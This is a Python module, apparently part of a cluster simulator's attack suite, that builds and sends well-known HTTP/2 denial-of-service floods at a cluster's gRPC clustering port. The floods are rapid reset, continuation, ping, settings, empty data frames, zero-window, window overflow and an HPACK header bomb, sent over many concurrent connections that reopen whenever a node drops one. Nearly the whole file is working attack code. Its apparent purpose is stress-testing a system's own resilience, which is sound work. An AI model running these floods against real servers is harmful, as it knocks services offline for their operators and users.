"""Floods of well-formed HTTP/2 frames that ask for much work and take little: at the clustering port.

Frames as in RFC 9113; the floods are the known ones: rapid reset, continuation, ping, settings, empty frames, streams
with a closed window.
"""

from __future__ import annotations

import asyncio
import struct
import time
from typing import TYPE_CHECKING

from simulator.attack.assaults import peer_messages
from simulator.attack.assaults.sockets import Connection, connect, drop, write
from simulator.attack.tally import NodeAddress, Tally, Victim

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RESET, _SETTINGS, _PING, _WINDOW, _CONTINUATION = 0, 1, 3, 4, 6, 8, 9
_END_STREAM, _END_HEADERS = 1, 4
_BATCH = 100


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def headers(method: str) -> bytes:
    """A header block that begins a call, every field literal and never indexed (RFC 7541, 6.2.2)."""
    fields = (
        (":method", "POST"),
        (":scheme", "http"),
        (":path", f"/cluster.v1.PeerService/{method}"),
        (":authority", "x"),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
    )
    return b"".join(_literal(name.encode()) + _literal(value.encode(), first=False) for name, value in fields)


def _literal(content: bytes, *, first: bool = True) -> bytes:
    return (b"\x00" if first else b"") + bytes([len(content)]) + content


def _message(content: bytes) -> bytes:
    return b"\0" + struct.pack(">I", len(content)) + content


def rapid_reset(batch: int) -> bytes:
    """Calls that are taken back in the same breath."""
    block = headers("GetStatus")
    return b"".join(
        frame(_HEADERS, _END_HEADERS, stream, block) + frame(_RESET, 0, stream, struct.pack(">I", 8))
        for stream in _streams(batch)
    )


def pings(_: int) -> bytes:
    """Pings that all want an answer."""
    return frame(_PING, 0, 0, b"12345678") * _BATCH


def settings(_: int) -> bytes:
    """Settings that all want an acknowledgement."""
    return frame(_SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * _BATCH


def empty_frames(batch: int) -> bytes:
    """Frames of data without data."""
    stream = 2 * batch + 1
    return frame(_HEADERS, _END_HEADERS, stream, headers("GetStatus")) + frame(_DATA, 0, stream) * _BATCH


def continuation(batch: int) -> bytes:
    """A header block that never ends."""
    field = _literal(b"x-endless") + _literal(b"y" * 100, first=False)
    block = frame(_CONTINUATION, 0, 1, field * 100)
    return (frame(_HEADERS, 0, 1, headers("GetStatus")) if batch == 0 else b"") + block * 10


def closed_window(batch: int) -> bytes:
    """Calls that are answered into a window of no bytes."""
    first = frame(_SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) if batch == 0 else b""
    body = frame(_DATA, _END_STREAM, 0, _message(peer_messages.named("x")))
    block = headers("GetStatus")
    return first + b"".join(
        frame(_HEADERS, _END_HEADERS, stream, block) + body[:5] + struct.pack(">I", stream) + body[9:]
        for stream in _streams(batch)
    )


def window_overflow(_: int) -> bytes:
    """Windows made larger than there can be."""
    return frame(_WINDOW, 0, 0, struct.pack(">I", 2**31 - 1)) * _BATCH


def headers_bomb(batch: int) -> bytes:
    """Header blocks that refer to one large entry of the table again and again (RFC 7541, 6.1)."""
    entry = b"\x40" + _literal(b"x-large", first=False) + b"\x7f\xa1\x1e" + b"z" * 4000
    block = headers("GetStatus") + entry + b"\xbe" * 3000
    return b"".join(frame(_HEADERS, _END_HEADERS, stream, block) for stream in _streams(batch)[:4])


FLOODS: dict[str, Callable[[int], bytes]] = {
    flood.__name__: flood
    for flood in (
        rapid_reset,
        pings,
        settings,
        empty_frames,
        continuation,
        closed_window,
        window_overflow,
        headers_bomb,
    )
}
"""Each makes the bytes of its n-th batch."""


def _streams(batch: int) -> range:
    return range(2 * _BATCH * batch + 1, 2 * _BATCH * (batch + 1), 2)


async def http2_flood(victim: Victim, *, flood: str, seconds: float, connections: int) -> Tally:
    """One flood, by the name of its function, over several connections to each node at once."""
    tally = Tally()
    deadline = time.monotonic() + seconds
    await asyncio.gather(
        *(_flood(node, FLOODS[flood], deadline, tally) for node in victim.nodes for _ in range(connections))
    )
    return tally


async def _flood(node: NodeAddress, flood: Callable[[int], bytes], deadline: float, tally: Tally) -> None:
    """Send one flood, over a new connection whenever the node ends one; answers are read and thrown away."""
    while time.monotonic() < deadline:
        connection = await connect(node.host, node.clustering_port, tally)
        if connection is None:
            await asyncio.sleep(0.05)
            continue
        reading = asyncio.ensure_future(_discard(connection))
        try:
            if await write(connection, PREFACE + frame(_SETTINGS, 0, 0)):
                await _send(connection, flood, deadline, tally)
        finally:
            reading.cancel()
            drop(connection)


async def _send(connection: Connection, flood: Callable[[int], bytes], deadline: float, tally: Tally) -> None:
    for batch in _batches(deadline):
        if not await write(connection, flood(batch)):
            tally.count("ended by the node")
            return
        tally.count("batch taken")
        await asyncio.sleep(0.005)


def _batches(deadline: float) -> Iterator[int]:
    batch = 0
    while time.monotonic() < deadline:
        yield batch
        batch += 1


async def _discard(connection: Connection) -> None:
    try:
        while await connection[0].read(65536):
            pass
    except OSError:
        return
